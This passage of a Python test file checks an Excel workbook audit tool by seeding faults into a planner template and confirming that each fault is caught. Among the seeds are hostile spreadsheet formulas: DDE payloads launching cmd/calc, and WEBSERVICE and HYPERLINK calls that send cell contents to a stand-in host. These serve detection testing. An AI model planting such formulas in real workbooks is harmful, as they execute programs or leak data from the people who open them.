"""Test `vram audit`: templates and ordinary workbooks pass, and each seeded fault is found by its own check only."""

from __future__ import annotations

import json
import re
from copy import deepcopy
from dataclasses import replace
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl.chart import BarChart, Reference
from openpyxl.formula.translate import Translator
from openpyxl.styles import Color, Font, GradientFill, PatternFill, Protection
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table, TableColumn, TableFormula

from addin.functions import declared_functions
from core.catalog.offers import catalog_offers
from tests.workbook.package_edits import DRAWING, MAIN, Xlsx
from tests.workbook.planner_rows import few
from workbook.audit.colours import BLACK, WHITE, Palette, contrast
from workbook.audit.formula import FormulaReader
from workbook.audit.opening import Budget, Package, opened
from workbook.audit.references import Resolver
from workbook.audit.run import CHECKS, audit
from workbook.audit.subject import Place, subject
from workbook.audit.tracing import Precedents
from workbook.cached_values import with_values
from workbook.labels import LANGUAGES, Labels
from workbook.package import rewritten
from workbook.recalculation import computed_values
from workbook.sheets import plan_inputs, prices, scenarios
from workbook.template import build

MODEL, USERS, OVERHEAD, WEIGHTS, KV, TOTAL, GPUS = (
    scenarios.letter(key) for key in ("model", "users", "overhead_rate", "weights", "kv", "total", "gpus")
)

pytestmark = pytest.mark.slow

FUNCTIONS = [function.name for function in declared_functions()]

# `test_followable` has workbooks that fail these; one cell more cannot make a planner fail.
ELSEWHERE = {"long_chains", "cells_behind"}

# Of the small planner.
SCENARIOS = 4
LAST_ROW = scenarios.FIRST_ROW + SCENARIOS - 1
LAST, MODELS = f"{GPUS}{LAST_ROW}", f"Scenarios!{MODEL}{scenarios.FIRST_ROW}:{MODEL}{LAST_ROW}"
SMALL_GPUS = {str(row["gpu"]) for row in scenarios.EXAMPLES}
SMALL_OFFERS = [offer for offer in catalog_offers() if offer.gpu in SMALL_GPUS]


def failing(path: Path, *, with_house: bool = True) -> dict[str, list[str]]:
    """Return the failing checks: key → places."""
    results = audit(path, with_house=with_house, add_in_functions=FUNCTIONS).results
    failed = (result for result in results if not result.passed)
    return {result.check.key: [str(fault) for fault in result.faults] for result in failed}


def test_the_template_passes(whole_planner):
    """In full in one language; `test_the_small_planner_passes` is for both."""
    assert failing(whole_planner) == {}


# --- faults seeded into the template ---------------------------------------------------------------------------------


def article(cell: str, text: str, stored: str | None = "1", type_: str | None = None):
    """Return a seed that writes a formula into a blank cell of the Article sheet, and its place."""
    return lambda x: x.formula("Article", cell, text, stored, type_), f"Article!{cell}"


def around(cell: str, before: str, after: str):
    """Return a seed that adds text before and after the formula in a cell of the Article sheet, and its place."""
    return lambda x: x.formula("Article", cell, before + x.formula_text("Article", cell) + after), f"Article!{cell}"


def sheet(title: str, change):
    return lambda x: x.edit_sheet(title, change)


def workbook(change):
    return lambda x: x.edit("xl/workbook.xml", change)


def attribute(path: str, **values: str | None):
    """Return a change that sets attributes of the first element at `path`, or removes those that are None."""

    def change(root) -> None:
        element = root.find(".//" + "/".join(MAIN + tag for tag in path.split("/")))
        for name, value in values.items():
            element.attrib.pop(name, None)
            if value is not None:
                element.set(name, value)

    return change


def removed(tag: str):
    def change(root) -> None:
        element = root.find(f".//{MAIN}{tag}")
        element.getparent().remove(element)

    return change


def sheet_entry(title: str, **values: str):
    return lambda root: next(e for e in root.iter(MAIN + "sheet") if e.get("name") == title).attrib.update(values)


def renamed(old: str, new: str):
    """Return a seed that gives a sheet another name, in the references to it too."""

    def change(part: str, content: bytes) -> bytes:
        for before, after in ((f"'{old}'!", f"'{new}'!"), (f"{old}!", f"{new}!"), (f'name="{old}"', f'name="{new}"')):
            content = content.replace(before.encode(), after.encode())
        return content

    def seed(x: Xlsx) -> None:
        x.content = rewritten(x.content, change)

    return seed


def name_text(name: str, text: str):
    """Return a seed that changes what a defined name stands for, and its place."""

    def change(root) -> None:
        next(e for e in root.iter(MAIN + "definedName") if e.get("name") == name).text = text

    return workbook(change), f"name {name}"


def row(number: int, **values: str):
    return lambda root: next(e for e in root.iter(MAIN + "row") if e.get("r") == str(number)).attrib.update(values)


def format_of(title: str, address: str, **values: str):
    """Return a seed that gives a cell a changed copy of its format."""

    def seed(x: Xlsx) -> None:
        x.restyle(title, address, lambda own, _: own.attrib.update(values))

    return seed


def white_text(x: Xlsx) -> None:
    """Turn the grey text of a note white."""

    def change(own, styles) -> None:
        fonts = styles.find(f"{MAIN}fonts")
        font = deepcopy(fonts[int(own.get("fontId"))])
        font.find(f"{MAIN}color").set("rgb", "00FFFFFF")
        own.set("fontId", str(len(fonts)))
        fonts.append(font)

    x.restyle("About", "A2", change)


def first_list(source: str):
    def change(root) -> None:
        next(rule for rule in root.iter(MAIN + "dataValidation") if rule.get("type") == "list")[0].text = source

    return change


def merged(root) -> None:
    cells = etree.Element(MAIN + "mergeCells", count="1")
    etree.SubElement(cells, MAIN + "mergeCell", ref="B5:B6")
    root.find(MAIN + "sheetProtection").addnext(cells)


def external_part(x: Xlsx) -> None:
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
    x.add("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{MAIN[1:-1]}"/>'.encode())
    x.add(
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{relation}" Target="file:///C:/other.xlsx" TargetMode="External"/>'
        "</Relationships>".encode(),
    )


def no_alternative_text(x: Xlsx) -> None:
    def change(root) -> None:
        del root.find(f".//{DRAWING}cNvPr").attrib["descr"]

    x.edit("xl/drawings/drawing1.xml", change)


def two_cells_in_a_circle(x: Xlsx) -> None:
    x.formula("Article", "G6", "G7*1")
    x.formula("Article", "G7", "0+G6")


def hidden_name(x: Xlsx) -> None:
    def hide(root) -> None:
        (name,) = (found for found in root.iter(MAIN + "definedName") if found.get("name") == "addin_loaded")
        name.set("hidden", "1")

    x.edit("xl/workbook.xml", hide)


# (check, seed, every place that it names)
SEEDS = {
    "vba": ("macros", lambda x: x.add("xl/vbaProject.bin"), "xl/vbaProject.bin"),
    "vba under another name": ("macros", lambda x: x.add("docs/VBAPROJECT.bin"), "docs/VBAPROJECT.bin"),
    "Excel 4 macro": ("macros", lambda x: x.add("xl/macrosheets/sheet1.xml", b"<a/>"), "xl/macrosheets/sheet1.xml"),
    "external formula": ("external_links", *article("B5", "[1]Sheet1!$A$1")),
    "external formula by path": ("external_links", *article("B7", r"'C:\[other.xlsx]Sheet 1'!$A$1")),
    "external name": ("external_links", *name_text("real_kv_gb", "[1]Sheet1!$A$1")),
    "external part": ("external_links", external_part, "xl/externalLinks/externalLink1.xml"),
    "connection": ("outside_parts", lambda x: x.add("xl/connections.xml", b"<a/>"), "xl/connections.xml"),
    "ActiveX": ("outside_parts", lambda x: x.add("xl/activeX/activeX1.xml", b"<a/>"), "xl/activeX/activeX1.xml"),
    "OLE object": ("outside_parts", lambda x: x.add("xl/embeddings/oleObject1.bin"), "xl/embeddings/oleObject1.bin"),
    "Power Query": (
        "outside_parts",
        lambda x: x.add("customXml/item1.xml", b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup"/>'),
        "customXml/item1.xml",
    ),
    "DDE": ("injected_formulas", *article("B9", "cmd|'/c calc'!A0")),
    "DDE in a path": ("injected_formulas", *article("B11", r"MSEXCEL|'\..\..\cmd.exe /c calc'!''")),
    "DDE in a name": ("injected_formulas", *name_text("real_weights_gb", "cmd|'/c calc'!A0")),
    "DDE as text": ("injected_formulas", lambda x: x.text("Models", "B13", "@SUM(1)+cmd|'/c calc'!A0"), "Models!B13"),
    "formula as text": ("injected_formulas", lambda x: x.text("Models", "B13", "=1+1"), "Models!B13"),
    "WEBSERVICE": ("injected_formulas", *article("B13", '_xlfn.WEBSERVICE("http://x.example/"&A1)')),
    "HYPERLINK": ("injected_formulas", *article("B15", 'HYPERLINK("http://x.example/?"&A1,"click")')),
    "HYPERLINK, computed": ("injected_formulas", *article("G9", 'HYPERLINK(A1&"","click")')),
    "unreadable": ("injected_formulas", *article("G11", "SUM((1")),
    "hidden sheet": ("hidden", workbook(sheet_entry("Precisions", state="hidden")), "Precisions"),
    "very hidden sheet": ("hidden", workbook(sheet_entry("Precisions", state="veryHidden")), "Precisions"),
    "hidden row": ("hidden", sheet("Models", row(6, hidden="1")), "Models!6:6"),
    "row of no height": ("hidden", sheet("Models", row(6, ht="0", customHeight="1")), "Models!6:6"),
    "hidden column": ("hidden", sheet("Models", attribute("cols/col", hidden="1")), "Models!A:A"),
    "column of no width": ("hidden", sheet("Models", attribute("cols/col", width="0")), "Models!A:A"),
    "hidden name": ("hidden", hidden_name, "addin_loaded"),
    "no stored value": ("values_stored", *article("G13", "1+1", None)),
    "error value": ("error_values", *article("G15", "0+1", "#DIV/0!", "e")),
    "broken name": ("names", *name_text("exact_kv_gb", "Article!#REF!")),
    "name of no sheet": ("names", *name_text("exact_weights_gb", "Gone!$A$1")),
    "unknown name": ("names", *article("H8", "no_such_name+1")),
    "unknown table column": ("names", *article("H10", "SUM(Models[Gone])")),
    "broken reference": ("names", *article("H12", "#REF!+1")),
    "number in a table column": (
        "hard_coded",
        lambda x: x.number("Scenarios", f"{WEIGHTS}9", 140),
        f"Scenarios!{WEIGHTS}9",
    ),
    "number in its first row": (
        "hard_coded",
        lambda x: x.number("Scenarios", f"{TOTAL}7", 1034),
        f"Scenarios!{TOTAL}7",
    ),
    "number in its last row": ("hard_coded", lambda x: x.number("Scenarios", LAST, 4), f"Scenarios!{LAST}"),
    "number in a grid": ("hard_coded", lambda x: x.number("Sensitivity", "D17", 7), "Sensitivity!D17"),
    "number in its corner": ("hard_coded", lambda x: x.number("Sensitivity", "H22", 7), "Sensitivity!H22"),
    "number in a formula's style": ("hard_coded", lambda x: x.number("Article", "E19", 140), "Article!E19"),
    "another formula in a grid": (
        "inconsistent",
        lambda x: x.formula("Sensitivity", "D17", x.formula_text("Sensitivity", "D17") + "+1"),
        "Sensitivity!D17",
    ),
    "another formula in a table": (
        "inconsistent",
        lambda x: x.formula("Scenarios", f"{KV}7", x.formula_text("Scenarios", f"{KV}7") + "+1"),
        f"Scenarios!{KV}7",
    ),
    "a row off": (
        "inconsistent",
        lambda x: x.formula("Sensitivity", "C32", "ROUNDUP(C16/$B$8-10^-9,0)"),
        "Sensitivity!C32",
    ),
    "NOW": ("volatile", *article("H14", "NOW()")),
    "OFFSET": ("volatile", *article("B6", "SUM(OFFSET(A1,1,0))")),
    "INDIRECT in a name": ("volatile", *name_text("exact_overhead_gb", 'INDIRECT("A1")')),
    "whole column": ("whole_columns", *article("B8", "SUM(Models!D:D)")),
    "whole row": ("whole_columns", *article("B10", "SUM(Models!$5:$6)")),
    "circle": ("circular", two_cells_in_a_circle, "Article!G6", "Article!G7"),
    "circle within a range": ("circular", *article("B12", "SUM(B11:B13)")),
    "circle of names": ("circular", *name_text("exact_total_gb", "exact_total_gb")),
    "iteration": ("circular", workbook(attribute("calcPr", iterate="1")), "workbook"),
    "empty list": ("lists", sheet("Scenarios", first_list("$ZX$1:$ZX$3")), MODELS),
    "list of a broken name": ("names", sheet("Scenarios", first_list("#REF!")), f"validation of Scenarios!{MODEL}7"),
    "list of no choices": ("lists", sheet("Scenarios", first_list('","')), MODELS),
    "input out of bounds": ("inputs_valid", lambda x: x.number("Article", "E10", 1.5), "Article!E10"),
    "input not in the list": (
        "inputs_valid",
        lambda x: x.text("Scenarios", f"{MODEL}7", "lama"),
        f"Scenarios!{MODEL}7",
    ),
    "input below a limit in a cell": (
        "inputs_valid",
        lambda x: x.number("Scenarios", f"{USERS}9", 0),
        f"Scenarios!{USERS}9",
    ),
    "text in place of a number": (
        "inputs_valid",
        lambda x: x.text("Scenarios", f"{USERS}9", "ten"),
        f"Scenarios!{USERS}9",
    ),
    "neither Plan nor About": ("about_first", renamed("Plan", "Intro"), "Intro"),
    "no date": ("dated_changes", lambda x: [x.text("Changes", cell, "soon") for cell in ("B5", "B6")], "Changes"),
    "no Changes sheet": ("dated_changes", workbook(sheet_entry("Changes", name="News")), "workbook"),
    "a check fails": (
        "master_check",
        lambda x: x.formula("Checks", "B5", x.formula_text("Checks", "B5"), "0"),
        "Checks!B5",
    ),
    "checks not shown": ("master_check", lambda x: x.formula("Plan", "O1", '"fine"', "fine", "str"), "Plan"),
    "unknown function": ("functions", *article("B14", "0+BDP(1)")),
    "a check of a cell with itself": (
        "checks_can_fail",
        lambda x: x.formula("Checks", "B9", "IF(Article!$E$19=Article!E19,1,0)"),
        "Checks!B9",
    ),
    "a check of nothing": ("checks_can_fail", lambda x: x.formula("Checks", "B9", "IF(1=1,1,0)"), "Checks!B9"),
    "old prices": (
        "stale_inputs",
        lambda x: x.number("Plan", plan_inputs.cell("plan_date"), 49_310),  # 2035-01-01
        *(f"Prices!{prices.letter('date')}{prices.FIRST_ROW + number}" for number in range(len(SMALL_OFFERS))),
    ),
    "a function of 2013": ("functions_2010", *article("B16", "_xlfn.DAYS(0,1)")),
    "a long formula": ("long_formulas", *article("G16", "+".join("0" * 101))),
    "nested IFs": ("nested_ifs", *article("C16", "IF(1,IF(1,IF(1,IF(1,1,0),0),0),0)")),
    "nine references": ("many_references", *article("E16", "+".join(f"D{row}" for row in range(5, 14)))),
    "constant": ("constants", *around("H5", "", "*1.1")),
    "per cent": ("constants", *around("H6", "", "*1%")),
    "a power that is no unit": ("constants", *around("H7", "", "+10^2")),
    "IFERROR": ("iferror_round", *around("H28", "IFERROR(", ",0)")),
    "ROUND": ("iferror_round", *around("H31", "ROUND(", ",0)")),
    "add-in function": (
        "headlines",
        around("H23", "", "*VRAM_WEIGHTS(1)")[0],
        "name real_overhead_gb",
        "name real_total_gb",
    ),
    "rule without a title": (
        "inputs_validated",
        sheet("Sensitivity", attribute("dataValidation", promptTitle=None)),
        "Sensitivity!B12",
    ),
    "input without a rule": ("inputs_validated", sheet("Sensitivity", removed("dataValidation")), "Sensitivity!B12"),
    "unprotected": ("protection", sheet("Article", removed("sheetProtection")), "Article"),
    "password": ("protection", sheet("Article", attribute("sheetProtection", password="CC1A")), "Article"),
    "percentage of GB": (
        "number_formats",
        format_of("Scenarios", f"{WEIGHTS}7", numFmtId="9"),
        f"Scenarios!{WEIGHTS}7",
    ),
    "decimals of GPUs": ("number_formats", format_of("Article", "E25", numFmtId="2"), "Article!E25"),
    "a share as a plain number": (
        "number_formats",
        format_of("Scenarios", f"{OVERHEAD}7", numFmtId="2"),
        f"Scenarios!{OVERHEAD}7",
    ),
    "white on white": ("contrast", white_text, "About!A2"),
    "no alternative text": ("alternative_texts", no_alternative_text, "xl/drawings/drawing1.xml: Chart 1"),
    "merged": ("merged", sheet("Article", merged), "Article!B5:B6"),
    "portrait": ("print", sheet("Models", attribute("pageSetup", orientation="portrait")), "Models"),
    "no footer": ("print", sheet("Models", removed("headerFooter")), "Models"),
    "small print": ("small_print", sheet("Changes", attribute("col", width="300")), "Changes"),
    "not frozen": ("frozen", sheet("Models", removed("pane")), "Models"),
    "cursor": (
        "cursor",
        sheet("Changes", lambda root: [s.set("activeCell", "C9") for s in root.iter(MAIN + "selection")]),
        "Changes!C9",
    ),
    "scrolled": ("cursor", sheet("About", attribute("sheetView", topLeftCell="A9")), "About!A9"),
    "another sheet in front": ("cursor", workbook(attribute("workbookView", activeTab="1")), "Scenarios"),
}


@pytest.fixture(scope="module")
def small_planner() -> bytes:
    return build_small("en")


def build_small(language: str) -> bytes:
    """Build the template with fewer models, GPUs and scenarios: an audit of it takes a fraction of the time."""
    rows = scenarios.default_rows(Labels(language))[:SCENARIOS]
    names = {str(row["model"]) for row in scenarios.EXAMPLES}
    with few(names, gpus=SMALL_GPUS, most_scenarios=SCENARIOS, sheet_gpus=()):
        return build(language, rows, offers=SMALL_OFFERS)[0]


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_small_planner_passes(tmp_path, language):
    path = tmp_path / "small.xlsx"
    path.write_bytes(build_small(language))
    assert failing(path) == {}


# A planner with each of the faults takes long to audit, so a planner has many of them, except those that rename a sheet.
# Faults that follow each other in the list, which may be in the same place, are in different planners.
RENAMED = ["neither Plan nor About", "no Changes sheet"]
OTHERS = [name for name in SEEDS if name not in RENAMED]
PLANNERS = [*([name] for name in RENAMED), *(OTHERS[number::6] for number in range(6))]
# What else a fault makes the audit find: a function that came with Excel 2013, and small print on a narrow page.
ALSO_FOUND = {"WEBSERVICE": {("functions_2010", "Article!B13")}, "portrait": {("small_print", "Models")}}


@pytest.mark.parametrize("names", PLANNERS, ids=lambda names: names[0])
def test_each_fault_is_found_by_its_check_alone(small_planner, tmp_path, names):
    x = Xlsx(small_planner)
    expected = {}
    for name in names:
        check, seed, *places = SEEDS[name]
        seed(x)
        expected[name] = {(check, place) for place in places} | ALSO_FOUND.get(name, set())
    path = tmp_path / "seeded.xlsx"
    path.write_bytes(x.content)
    results = audit(path, add_in_functions=FUNCTIONS).results
    found = {(result.check.key, fault.place) for result in results for fault in result.faults}
    assert {name: places - found for name, places in expected.items() if places - found} == {}
    assert found == set.union(*expected.values())
    assert len(found) == sum(map(len, expected.values())), "two faults have the same place"


def test_every_check_has_a_seed():
    assert {check for check, *_ in SEEDS.values()} == {check.key for check in CHECKS} - ELSEWHERE


# --- ordinary workbooks ----------------------------------------------------------------------------------------------


def stored(book: openpyxl.Workbook, path: Path) -> Path:
    """Save a workbook with the results of its formulas, as a spreadsheet program would."""
    out = BytesIO()
    book.save(out)
    path.write_bytes(with_values(out.getvalue(), computed_values(out.getvalue())))
    return path


@pytest.fixture
def budget() -> openpyxl.Workbook:
    """Build a small workbook without a house style: opening balance, flows, closing balance, totals, a chart."""
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "Budget 2027"
    ws.append(["USD", "Jan", "Feb", "Mar", "Apr", "Year"])
    ws.append(["Opening", 100, "=B5", "=C5", "=D5", None])
    ws.append(["In", 10, 20, 30, 40, "=SUM(B3:E3)"])
    ws.append(["Out", -5, -6, -7, -8, "=SUM(B4:E4)"])
    ws.append(["Closing", *(f"={c}2+{c}3+{c}4" for c in "BCDE"), None])
    ws.append(["Growth", None, "=C5/B5-1", "=D5/C5-1", "=E5/D5-1", None])
    ws.append(["Note: -5 and +3|4 are text", "-", "+", "@home", '=HYPERLINK("#"&"A1","up")', None])
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=2, max_col=5, min_row=3, max_row=4))
    ws.add_chart(chart, "A10")
    book.defined_names["growth"] = DefinedName("growth", attr_text="'Budget 2027'!$C$6:$E$6")
    return book


def test_an_ordinary_workbook_passes(budget, tmp_path):
    path = stored(budget, tmp_path / "budget.xlsx")
    assert failing(path, with_house=False) == {}
    assert {"about_first", "dated_changes", "print"} <= set(failing(path))


def test_a_number_over_a_formula_is_found_in_it(budget, tmp_path):
    budget.active["D5"] = 150
    budget.active["F4"] = -26
    found = failing(stored(budget, tmp_path / "budget.xlsx"), with_house=False)
    # F4 ends its column and no neighbouring run continues there, so it may be an input
    assert found == {"hard_coded": ["'Budget 2027'!D5 (150)"]}


def test_a_pattern_may_be_broken_by_a_row_of_subtotals_or_inputs(tmp_path):
    book = openpyxl.Workbook()
    ws = book.active
    for row in range(1, 10):
        ws.append([row, *(f"={c}{row}*$Z$1" for c in "ABC")])
    for column in "BCD":
        ws[f"{column}5"] = f"=SUM({column}1:{column}4)"
        ws[f"{column}7"] = 12
    ws["Z1"] = 2
    assert failing(stored(book, tmp_path / "t.xlsx"), with_house=False) == {}


def test_many_inconsistent_formulas_are_counted(vram, tmp_path):
    book = openpyxl.Workbook()
    for row in range(1, 101):
        book.active.append([row, f"=A{row}*{2 if row % 9 else 3}"])
    status, out, err = vram("audit", stored(book, tmp_path / "t.xlsx"), "--no-house")
    assert (status, err) == (1, "")
    assert "Neighbouring formulas are consistent: 11 problems: Sheet!B9, " in out and "Sheet!B45 and 6 more" in out


@pytest.fixture
def table_book() -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["n", "twice"])
    for row in range(2, 8):
        ws.append([row, "=T[[#This Row],[n]]+T[[#This Row],[n]]"])
    table = Table(displayName="T", ref="A1:B7")
    twice = TableFormula(attr_text="T[[#This Row],[n]]+T[[#This Row],[n]]")
    table.tableColumns = [TableColumn(id=1, name="n"), TableColumn(id=2, name="twice", calculatedColumnFormula=twice)]
    ws.add_table(table)
    return book


def test_tables(table_book, tmp_path):
    assert failing(stored(table_book, tmp_path / "t.xlsx"), with_house=False) == {}
    table_book.active["B7"] = 14
    table_book.active["B2"] = "=A2*1"
    found = failing(stored(table_book, tmp_path / "t.xlsx"), with_house=False)
    assert found == {"hard_coded": ["Sheet!B7 (14)"], "inconsistent": ["Sheet!B2"]}


def test_relative_limits_and_extension_rules(tmp_path):
    """A limit may be relative to the cell; rules with another sheet's list are in an extension that openpyxl drops."""
    book = openpyxl.Workbook()
    ws = book.active
    for row, (value, most) in enumerate([(1, 2), (3, 2), (5, 9)], start=1):
        ws.append([value, most])
    rule = DataValidation(type="whole", operator="lessThanOrEqual", formula1="B1")
    rule.add("A1:A3")
    ws.add_data_validation(rule)
    ws["D1"], ws["D2"] = "red", "purple"
    book.create_sheet("Lists")
    for row, colour in enumerate(["red", "green"], start=1):
        book["Lists"].cell(row, 1, colour)
    x = Xlsx(stored(book, tmp_path / "t.xlsx").read_bytes())
    extension = (
        '<extLst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ext'
        ' uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"'
        ' xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:dataValidations count="1"'
        ' xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:dataValidation type="list">'
        "<x14:formula1><xm:f>Lists!$A$1:$A$2</xm:f></x14:formula1><xm:sqref>D1:D2</xm:sqref>"
        "</x14:dataValidation></x14:dataValidations></ext></extLst>"
    )
    x.edit_sheet("Sheet", lambda root: root.append(etree.fromstring(extension)))
    (tmp_path / "t.xlsx").write_bytes(x.content)
    assert failing(tmp_path / "t.xlsx", with_house=False) == {"inputs_valid": ["Sheet!A2 (3)", "Sheet!D2 (purple)"]}


def test_protection_looks_at_cells(tmp_path):
    book = openpyxl.Workbook()
    ws = book.active
    ws["A1"], ws["B1"] = 1, "=A1"
    ws["B1"].protection = Protection(locked=False)
    rule = DataValidation(type="whole", formula1="0", formula2="9")
    rule.add("A1")
    ws.add_data_validation(rule)
    ws.protection.sheet = True
    assert failing(stored(book, tmp_path / "t.xlsx"))["protection"] == [
        "Sheet!B1 (unlocked formula)",
        "Sheet!A1 (locked input)",
    ]


def test_a_lambda_under_a_name_is_no_add_in(tmp_path):
    book = openpyxl.Workbook()
    book.active["A1"] = 1
    book.active["A2"] = "=double(A1)"
    book.active["A3"] = "=A2+_xlfn.XLOOKUP(1,A1:A1,A1:A1)+double(A2)"
    book.defined_names["double"] = DefinedName("double", attr_text="_xlfn.LAMBDA(_xlpm.x,_xlpm.x+_xlpm.x)")
    book.defined_names["result"] = DefinedName("result", attr_text="Sheet!$A$3")
    book.save(tmp_path / "t.xlsx")
    found = failing(tmp_path / "t.xlsx")
    assert not {"headlines", "names", "circular"} & set(found)
    book.defined_names["double"] = DefinedName("double", attr_text="_xlfn.LAMBDA(_xlpm.x,VRAM_KV(_xlpm.x))")
    book.save(tmp_path / "t.xlsx")
    assert "name result (uses VRAM_KV)" in failing(tmp_path / "t.xlsx")["headlines"]


def test_macros_are_expected_where_the_name_says_so(small_planner, tmp_path):
    x = Xlsx(small_planner)
    x.add("xl/vbaProject.bin")
    for name, expected in (("a.xlsx", {"macros"}), ("a.XLSM", set())):
        (tmp_path / name).write_bytes(x.content)
        assert set(failing(tmp_path / name)) == expected


# --- how it reads ----------------------------------------------------------------------------------------------------

TWO_SHEETS = openpyxl.Workbook()
TWO_SHEETS.create_sheet("My sheet")
TWO_SHEETS = Resolver(TWO_SHEETS)
REFERENCES = ("A1", "$A1", "A$1", "$A$1", "B2:C9", "$B2:C$9", "'My sheet'!D4", "Sheet!$E5:F$6", "7:9", "$C:$C")


@settings(deadline=None)
@given(st.lists(st.sampled_from(REFERENCES), min_size=1, max_size=5), st.integers(0, 50), st.integers(0, 20))
def test_a_formula_keeps_its_form_wherever_it_is_filled(references, down, right):
    text = "=SUM(" + ",".join(references) + ")*10^9"
    origin, there = Place("Sheet", 20, 20), Place("Sheet", 20 + down, 20 + right)
    moved = Translator(text, origin=origin.coordinate).translate_formula(there.coordinate)
    reader = FormulaReader(TWO_SHEETS)
    first, second = reader.read(text, *origin), reader.read(moved, *there)
    if not any(reference in text for reference in ("7:9", "$C:$C")):  # openpyxl's translator leaves some of them alone
        assert first.form is second.form
    assert not first.form.constants and not first.unresolved


@pytest.mark.parametrize(
    ("formula", "constants"),
    [
        ("1+0*A1", ()),
        ("A1/10^9+A1*2^20-10^-9", ()),
        ("A1*2", ("2",)),
        ("A1*1.0", ()),
        ("A1*100%", ("100%",)),
        ("A1*0%", ()),
        ("10^4", ("10", "4")),
        ("2^31", ("2", "31")),
        ("3^10", ("3", "10")),
        ("MATCH(A1,{1,2;3,0},0)", ("2", "3")),
        ('A1&"12"', ()),
        ("1E9", ("1E9",)),
    ],
)
def test_constants(formula, constants):
    assert FormulaReader(Resolver(openpyxl.Workbook())).read("=" + formula, "Sheet", 1, 1).form.constants == constants


@pytest.mark.parametrize(
    ("text", "starts"),
    [
        ("=cmd|' /C calc'!A0", True),
        ("=-2+3+cmd|' /C calc'!E1", True),
        ('=IF(A1="a|b",1,0)', False),
        ("='a|b'!A1", False),
        ("=SUM(T[a|b])", False),
        ('="x""|"', False),
    ],
)
def test_what_starts_a_program(text, starts):
    assert FormulaReader(Resolver(openpyxl.Workbook())).read(text, "Sheet", 1, 1).form.starts_program is starts


def test_areas_of_references(table_book):
    table_book.create_sheet("O'Hara & co")
    table_book.defined_names["ns"] = DefinedName("ns", attr_text="T[n]")
    resolver = Resolver(table_book)

    def areas(operand: str) -> list[tuple]:
        return [tuple(area) for area in resolver.areas(operand, "Sheet", 4, 2)]

    assert areas("b3:$A$2") == [("Sheet", 2, 1, 3, 2)]
    assert areas("'o''hara & co'!A1") == [("O'Hara & co", 1, 1, 1, 1)]
    assert areas("'Sheet:O''Hara & co'!A1") == [("Sheet", 1, 1, 1, 1), ("O'Hara & co", 1, 1, 1, 1)]
    assert areas("T[n]") == [("Sheet", 2, 1, 7, 1)]
    assert areas("T") == areas("t[]") == [("Sheet", 2, 1, 7, 2)]
    assert areas("T[[#This Row],[n]:[twice]]") == areas("T[@]") == [("Sheet", 4, 1, 4, 2)]
    assert areas("[@twice]") == [("Sheet", 4, 2, 4, 2)]
    assert areas("T[[#Headers],[n]]") == [("Sheet", 1, 1, 1, 1)]
    assert areas("T[#All]") == [("Sheet", 1, 1, 7, 2)]
    assert areas("C:C") == [("Sheet", 1, 3, 1_048_576, 3)]
    assert areas("[1]Other!A1") == []
    assert resolver.areas("NS", "Sheet", 4, 2) == (None, "ns")


@settings(max_examples=30)
@given(st.integers(1, 40), st.data())
def test_what_a_range_is_computed_from(count, data):
    """The precedents are all formulas within the range and no others, however the range is split into blocks."""
    first = data.draw(st.integers(1, count))
    last = data.draw(st.integers(first, count))
    book = openpyxl.Workbook()
    for row in range(1, count + 1):
        book.active.cell(row, 1, "=1")
    book.active["C1"] = f"=SUM(A{first}:B{last})"
    out = BytesIO()
    book.save(out)
    path = Path("range.xlsx")
    read = subject(Package(path, out.getvalue(), ()))
    found = {node for node in Precedents(read).all_of(Place("Sheet", 1, 3)) if isinstance(node, Place)}
    assert found == {Place("Sheet", 1, 3), *(Place("Sheet", row, 1) for row in range(first, last + 1))}


def test_running_totals_are_traced_without_looking_at_every_pair(tmp_path):
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["=1"])
    for row in range(2, 2000):
        ws.append([f"=SUM(A$1:A{row - 1})"])
    path = tmp_path / "t.xlsx"
    for first, has_cycle in (("=1", False), ("=A1999", True)):
        ws["A1"] = first
        book.save(path)
        read = replace(subject(opened(path)), budget=Budget(path, 100_000))  # there are two million pairs
        assert (Place("Sheet", 1, 1) in Precedents(read).cycle()) is has_cycle


# --- colours ---------------------------------------------------------------------------------------------------------


def test_contrast():
    # Origin: WCAG 2.2 (21:1 is the maximum); #767676 is the lightest grey that passes on white, 4.54:1.
    assert contrast(BLACK, WHITE) == pytest.approx(21)
    assert contrast(WHITE, WHITE) == 1
    grey = (0x76 / 255,) * 3
    assert contrast(grey, WHITE) == pytest.approx(4.54, abs=0.005)


def test_theme_and_indexed_colours():
    palette = Palette(None)
    assert palette.colour(Color(theme=0), BLACK) == WHITE
    assert palette.colour(Color(theme=1), WHITE) == BLACK
    assert palette.colour(Color(indexed=10), BLACK) == (1, 0, 0)
    assert palette.colour(Color(indexed=64), BLACK) == BLACK
    assert palette.colour(Color(auto=True), BLACK) == BLACK
    # Origin: ECMA-376 part 1, 18.8.19: a tint of -0.25 takes a quarter of the lightness: white becomes BFBFBF.
    assert palette.colour(Color(theme=0, tint=-0.25), BLACK) == pytest.approx((0.75,) * 3)
    assert palette.colour(Color(theme=1, tint=0.5), WHITE) == pytest.approx((0.5,) * 3)


@pytest.mark.parametrize(
    ("font", "fill", "passes"),
    [
        (None, None, True),
        (Font(color="FFFFFFFF"), None, False),
        (Font(color=Color(theme=0)), PatternFill("solid", start_color=Color(theme=1)), True),
        (Font(color=Color(theme=0)), PatternFill("solid", start_color=Color(theme=0, tint=-0.15)), False),
        (Font(color="FF000000"), GradientFill(stop=("FFFFFFFF", "FF111111")), False),
